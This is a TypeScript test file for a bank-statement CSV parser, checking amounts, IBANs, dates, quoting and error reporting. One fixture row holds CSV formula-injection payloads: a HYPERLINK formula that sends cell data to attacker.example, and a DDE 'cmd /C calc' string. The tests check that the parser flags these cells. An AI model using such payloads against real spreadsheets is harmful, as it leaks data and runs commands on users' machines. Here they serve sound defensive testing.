import { describe, expect, it } from 'vitest';
import { parseStatementCsv } from './parseStatementCsv.js';
import { readFixture } from '../../../test/fixtures/domain/vectors.js';

// test/fixtures/domain/statement.csv: hand-written, CRLF line ends, the same bookings as the camt.053
// fixture plus one row whose text cells carry spreadsheet formulas.
const fixture = readFixture('statement.csv');
const HEADER = 'entry_ref,booking_date,value_date,amount,currency,counterparty_name,counterparty_iban,remittance_info';

describe('parseStatementCsv', () => {
  describe('when the file follows the documented header', () => {
    it('reads every row with exact signed amounts, quoted commas, quotes and line breaks', () => {
      const { entries } = parseStatementCsv(fixture);
      expect(entries).toEqual([
        {
          entryRef: '2025030300117843', bookingDate: '2025-03-03', valueDate: '2025-03-03', amountMinor: 1_250_000, currency: 'EUR',
          counterpartyName: 'Müller & Söhne GmbH', counterpartyIban: 'AT611904300234573201', remittanceInfo: 'Rechnung RE-2025-0042 vom 14.02.2025',
        },
        {
          entryRef: '2025030300118002', bookingDate: '2025-03-03', valueDate: '2025-03-03', amountMinor: -123_456, currency: 'EUR',
          counterpartyName: 'Société Générale, Paris', counterpartyIban: 'FR1420041010050500013M02606', remittanceInfo: 'Invoice 2025-001 "Q1"',
        },
        {
          entryRef: '2025030300118003', bookingDate: '2025-03-03', valueDate: null, amountMinor: -750, currency: 'EUR',
          counterpartyName: null, counterpartyIban: null, remittanceInfo: 'Kontoführungsgebühr Februar 2025',
        },
        {
          entryRef: '2025030300118004', bookingDate: '2025-03-03', valueDate: '2025-03-04', amountMinor: 98_000, currency: 'EUR',
          counterpartyName: "O'Neil & Partners Ltd.", counterpartyIban: 'GB29NWBK60161331926819', remittanceInfo: 'RF18539007547034',
        },
        {
          entryRef: '2025030300118006', bookingDate: '2025-03-04', valueDate: '2025-03-04', amountMinor: -1999, currency: 'EUR',
          counterpartyName: '=HYPERLINK("http://attacker.example/?x="&A1)', counterpartyIban: null, remittanceInfo: "@SUM(1+1)*cmd|' /C calc'!A0",
        },
      ]);
    });

    it('keeps formula cells as data and flags them with their line and column', () => {
      expect(parseStatementCsv(fixture).formulaCells).toEqual([
        { line: 7, column: 'counterparty_name' },
        { line: 7, column: 'remittance_info' },
      ]);
    });

    it('does not flag a negative amount, which is a number, not text', () => {
      expect(parseStatementCsv(`${HEADER}\nr1,2025-03-03,,-1.00,EUR,,,\n`).formulaCells).toEqual([]);
    });

    it('accepts the columns in any order and yen without decimals', () => {
      const text = 'currency,amount,entry_ref,booking_date,value_date,counterparty_name,counterparty_iban,remittance_info\nJPY,-1234,r1,2025-03-03,,,,\n';
      expect(parseStatementCsv(text).entries[0]).toMatchObject({ amountMinor: -1234, currency: 'JPY' });
    });
  });

  describe('when a row or the header is bad', () => {
    const row = (cells: string) => `${HEADER}\nr0,2025-03-03,,1.00,EUR,,,ok\n${cells}\n`;
    it.each([
      ['an amount with too many decimals', row('r1,2025-03-03,,1.001,EUR,,,'), 'line 3, column amount'],
      ['an amount with an exponent', row('r1,2025-03-03,,1e5,EUR,,,'), 'line 3, column amount'],
      ['an amount above the limit', row('r1,2025-03-03,,1000000000000,EUR,,,'), 'line 3, column amount'],
      ['a decimal comma', row('r1,2025-03-03,,"1,5",EUR,,,'), 'line 3, column amount'],
      ['an unknown currency', row('r1,2025-03-03,,1.00,EURO,,,'), 'line 3, column currency'],
      ['a bad IBAN', row('r1,2025-03-03,,1.00,EUR,,DE88370400440532013000,'), 'line 3, column counterparty_iban'],
      ['an impossible date', row('r1,2025-02-30,,1.00,EUR,,,'), 'line 3, field bookingDate'],
      ['a missing reference', row(',2025-03-03,,1.00,EUR,,,'), 'line 3, field entryRef'],
      ['a missing field', row('r1,2025-03-03,,1.00,EUR,,'), 'line 3:'],
      ['a broken quote', row('r1,2025-03-03,,1.00,EUR,"ACME,,'), 'line 3:'],
      ['a bidirectional override in a name', row('r1,2025-03-03,,1.00,EUR,ACME \u202eLTD,,'), 'line 3, field counterpartyName'],
      ['an unknown column', `${HEADER},balance\n`, 'line 1:'],
      ['a missing column', `${HEADER.replace(',remittance_info', '')}\n`, 'line 1:'],
      ['a repeated column', `${HEADER},amount\n`, 'line 1:'],
      ['an empty file', '', 'line 1:'],
    ])('refuses %s with DOMAIN_BAD_CSV naming the line', async (_, text, where) => {
      await expect(() => parseStatementCsv(text)).toThrowCode('DOMAIN_BAD_CSV');
      expect(() => parseStatementCsv(text)).toThrow(where);
    });

    it('counts lines from the start of the file, across line breaks inside quoted fields', () => {
      const text = `${HEADER}\nr0,2025-03-03,,1.00,EUR,,,"two\nlines"\nr1,2025-03-03,,x,EUR,,,\n`;
      expect(() => parseStatementCsv(text)).toThrow('line 4, column amount');
    });
  });
});
